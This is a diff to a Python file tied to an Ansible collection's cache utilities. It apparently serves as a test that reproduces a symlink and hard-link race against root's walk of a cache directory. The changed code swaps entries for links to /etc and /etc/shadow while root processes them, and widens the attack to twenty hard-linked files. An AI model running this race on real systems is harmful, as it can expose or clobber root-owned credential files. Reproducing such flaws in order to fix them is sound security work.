@@ -24,6 +24,8 @@ from ansible_collections.gopherops.workstation.plugins.module_utils._caches._rep
 from ansible_collections.gopherops.workstation.plugins.module_utils._errors import WorkstationError
 
 UID = GID = 61235
+FILES = [f"h{number}" for number in range(20)]
+SWAPPED = [("d", "etc"), ("f", "etc/shadow"), *((name, "open") for name in FILES)]
 
 
 def build(top: Path) -> tuple[Path, Path]:
@@ -51,12 +53,12 @@ def attack(cache: Path, outside: Path, counter: int) -> None:
     os.setuid(UID)
     swaps, place = 0, str(cache)
     while True:
-        for name, goal in (("d", "etc"), ("f", "etc/shadow"), ("h", "open")):
+        for name, goal in SWAPPED:
             path, aside = f"{place}/{name}", f"{place}/.{name}"
             with contextlib.suppress(OSError):
                 os.rename(path, aside)
             with contextlib.suppress(OSError):
-                if name == "h":
+                if goal == "open":
                     os.link(outside / goal, path)
                 else:
                     os.symlink(outside / goal, path)
@@ -72,21 +74,21 @@ def attack(cache: Path, outside: Path, counter: int) -> None:
             os.unlink(place)
         with contextlib.suppress(OSError):
             os.rename(place + ".aside", place)
-        if swaps % 300 == 0:
-            os.pwrite(counter, str(swaps).encode(), 0)
+        os.pwrite(counter, str(swaps).encode(), 0)
 
 
 def spoil(cache: int) -> None:
     """Give root's walk something to do each time; through the cache's own descriptor, for it may be a link by now."""
-    for name in ("d", "d/s"):
-        with contextlib.suppress(OSError):
-            os.mkdir(name, dir_fd=cache)
+    with contextlib.suppress(OSError):
+        os.mkdir("d", dir_fd=cache)
     with contextlib.suppress(OSError):
         folder = os.open("d", os.O_RDONLY | os.O_DIRECTORY | os.O_NOFOLLOW, dir_fd=cache)
         spoil_file("f", folder)
+        with contextlib.suppress(OSError):
+            os.mkdir("s", dir_fd=folder)
         os.fchown(folder, 0, 0)
         os.close(folder)
-    for name in ("f", "h"):
+    for name in ("f", *FILES):
         spoil_file(name, cache)
 
 
